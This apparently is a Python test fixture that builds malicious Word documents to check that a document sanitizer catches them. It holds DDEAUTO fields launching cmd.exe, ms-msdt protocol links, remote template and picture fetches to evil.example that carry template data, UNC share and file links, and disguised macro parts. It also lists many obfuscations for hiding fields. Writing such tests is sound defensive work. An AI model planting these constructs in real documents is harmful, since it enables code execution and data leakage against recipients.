"""Word files that would fetch or start something, by every way there is into one."""

from tests.reports.docx.making import RELATIONS, TYPES, part, related, repacked, template

BODY, SETTINGS = "word/document.xml", "word/settings.xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
LINK = '<Relationship Id="rId77" Type="{}/{}" Target="{}" TargetMode="External"/>'


def code(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)


def complex_field(*pieces: str) -> str:
    return f"{BEGIN}{code(*pieces)}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}"


def with_body(xml: str, docx: bytes | None = None) -> bytes:
    docx = docx or template("{{ headline }}")
    body = part(docx, BODY).decode().replace("<w:body>", f"<w:body>{xml}", 1)
    return repacked(docx, {BODY: body.encode()})


def with_paragraph(runs: str) -> bytes:
    return with_body(f"<w:p>{runs}</w:p>")


def with_part(name: str, kind: str, content: bytes, relation: str = "") -> bytes:
    made = template("{{ headline }}")
    types = part(made, TYPES).replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    )
    made = repacked(made, {TYPES: types, name: content})
    target = name.removeprefix("word/")
    return (
        related(made, f'<Relationship Id="rId66" Type="{relation}" Target="{target}"/>') if relation else made
    )


def with_setting(xml: str) -> bytes:
    made = template("{{ headline }}")
    return repacked(
        made, {SETTINGS: part(made, SETTINGS).replace(b"</w:settings>", f"{xml}</w:settings>".encode())}
    )


FIELDS = [
    "INCLUDEPICTURE &quot;http://evil.example/x.png?{{ headline }}&quot;",
    "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d",
    "INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\x.docx&quot;",
    "DDEAUTO cmd.exe &quot;/k calc&quot;",
    "DDE cmd.exe calc",
    "ddeauto cmd calc",
    "&#68;DE cmd calc",
    "HYPERLINK &quot;ms-msdt:/id&quot;",
    "HYPERLINK &quot;file:///etc/passwd&quot;",
    "HYPERLINK \\n ms-msdt:/id",
    "HYPERLINK &quot;\\\\\\\\host\\\\share&quot;",
    "HYPERLINK &quot;https://evil.example/?{{ headline }}&quot;",
    "PAGE {{ decision_reason }}",
    "PAGE DDEAUTO cmd calc",
    "REF x DDEAUTO cmd calc",
    "TOC \\o INCLUDEPICTURE \\b http://evil.example/x",
    "IF 1 = 1 yes no",
    "MACROBUTTON AutoOpen here",
    "GOTOBUTTON x y",
    "DATABASE \\d c",
    "IMPORT c.png",
    "LINK Excel.Sheet x",
    "EMBED Excel.Sheet",
    "RD c.docx",
    "QUOTE x",
    "AUTOTEXT x",
    "FILLIN x",
    "MERGEFIELD x",
    "_Ref123",
]


HIDDEN = {
    "nested in a code": f"{BEGIN}{code('REF ')}{complex_field('PAGE')}{code(' x')}{SEPARATE}{END}",
    "nested in a result": f"{BEGIN}{code('PAGE')}{SEPARATE}{complex_field('DDE a b')}{END}",
    "split by a comment": complex_field("D<!-- x -->DE a b"),
    "split by an instruction": complex_field("D<?x y?>DE a b"),
    "in character data": complex_field("<![CDATA[DDE]]> a b"),
    "as text": f"{BEGIN}<w:r><w:t>DDE a b</w:t></w:r>{END}",
    "in simple field within another": '<w:fldSimple w:instr="PAGE"><w:fldSimple w:instr="DDE a b"/></w:fldSimple>',
    "outside a field": code("DDE a b"),
    "an end too many": f"{complex_field('PAGE')}{END}",
    "another mark": '<w:r><w:fldChar w:fldCharType="Begin"/></w:r>',
    "half inserted": f'{BEGIN}<w:ins w:id="1" w:author="x">{code("PAGE ")}</w:ins>{code("DDE a b")}{END}',
    "whole inserted": f'<w:ins w:id="1" w:author="x">{complex_field("PAGE")}</w:ins>',
    "half deleted": f'{BEGIN}{code("PAGE")}<w:del w:id="1" w:author="x"><w:r><w:delInstrText>DDE</w:delInstrText></w:r></w:del>{END}',
    "half in a branch": (
        f'{BEGIN}<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="w14">{code("REF ")}</mc:Choice><mc:Fallback>{code("x")}</mc:Fallback></mc:AlternateContent>{END}'
    ),
    "in the other branch": (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="w14">{complex_field("PAGE")}</mc:Choice><mc:Fallback>{complex_field("DDE a b")}</mc:Fallback>'
        "</mc:AlternateContent>"
    ),
    "in a text box": f'<w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent><w:p>{complex_field("DDE a b")}</w:p></w:txbxContent></v:textbox></w:pict></w:r>',
    "in the other namespace": '<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main" x:instr="DDE a b"/>',
}  # fmt: skip


OLE = f"{RELATIONS}/oleObject"
PARTS = {
    "HTML to be taken in": with_part("word/a.html", "text/html", b"<img src=http://evil.example>", f"{RELATIONS}/aFChunk"),
    "HTML as plain XML": with_part("word/a.xml", "application/xml", b"<html/>", f"{RELATIONS}/aFChunk"),
    "an OLE object": with_part("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", b"x", OLE),
    "a workbook": with_part("word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"x", f"{RELATIONS}/package"),
    "macros": with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    "macros under another name": with_part("word/media/image9.png", "application/vnd.ms-office.vbaProject", b"x"),
    "macros as a picture": with_part("word/media/image9.png", "image/png", b"x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"),
    "keys": with_part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", b"<x/>"),
    "a control": with_part("word/control.xml", "application/vnd.ms-office.activeX+xml", b"<x/>", f"{RELATIONS}/control"),
    "a drawing that is a program": with_part("word/media/a.svg", "image/svg+xml", b"<svg/>", f"{RELATIONS}/image"),
    "a web extension": with_part("word/webextensions/a.xml", "application/vnd.ms-office.webextension+xml", b"<x/>"),
    "what has no kind": repacked(template("x"), {"word/media/a.exe": b"MZ"}),
    "mail merge": with_part("word/recipientData.xml", f"{WORD}.mailMergeRecipientData+xml", b"<x/>"),
    "strict relations": related(template("x"), '<Relationship Id="rId9" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="a"/>'),
    "a sub-document": related(template("x"), LINK.format(RELATIONS, "subDocument", "https://evil.example/x.docx")),
    "another template": related(template("x"), LINK.format(RELATIONS, "attachedTemplate", "https://evil.example/x.dotm")),
    "a frame": related(template("x"), LINK.format(RELATIONS, "frame", "https://evil.example")),
    "a kind that only ends so": related(template("x"), LINK.format("http://evil", "hyperlink", "https://evil.example")),
    "a protocol of the system": related(template("x"), LINK.format(RELATIONS, "hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "a share": related(template("x"), LINK.format(RELATIONS, "hyperlink", "\\\\host\\share")),
    "a file": related(template("x"), LINK.format(RELATIONS, "hyperlink", "file:///c:/x")),
    "another spelling of the mode": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="https://evil.example" TargetMode="external "/>'),
    "an inner target that leads out": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="https://evil.example/x.png"/>'),
    "the relation of a picture to a share": related(template("x"), f'<Relationship Id="rId9" Type="{RELATIONS}/image" Target="//host/x.png"/>'),
}  # fmt: skip


ELEMENTS = {
    "altChunk": with_body('<w:altChunk xmlns:r="x" r:id="rId66"/>'),
    "subDoc": with_body('<w:subDoc xmlns:r="x" r:id="rId66"/>'),
    "object": with_paragraph("<w:r><w:object/></w:r>"),
    "OLEObject": with_paragraph('<w:r><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r>'),
    "imagedata": with_paragraph('<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x"/></w:pict></w:r>'),
    "shape": with_paragraph('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://host/x"/></w:pict></w:r>'),
    "docPr": with_paragraph('<w:r><wp:docPr xmlns:wp="x" descr="{{ headline }}"/></w:r>'),
    "attachedTemplate": with_setting('<w:attachedTemplate xmlns:r="x" r:id="rId1"/>'),
    "mailMerge": with_setting('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'),
    "saveThroughXslt": with_setting("<w:saveThroughXslt/>"),
    "entryMacro": with_paragraph('<w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r>'),
    "HyperlinkBase": repacked(template("x"), {"docProps/app.xml": part(template("x"), "docProps/app.xml").replace(b"<HyperlinkBase/>", b"<HyperlinkBase>file://host/</HyperlinkBase>")}),
    "frameset": repacked(template("x"), {"word/webSettings.xml": b'<w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:frameset><w:frame><w:sourceFileName/></w:frame></w:frameset></w:webSettings>'}),
}  # fmt: skip
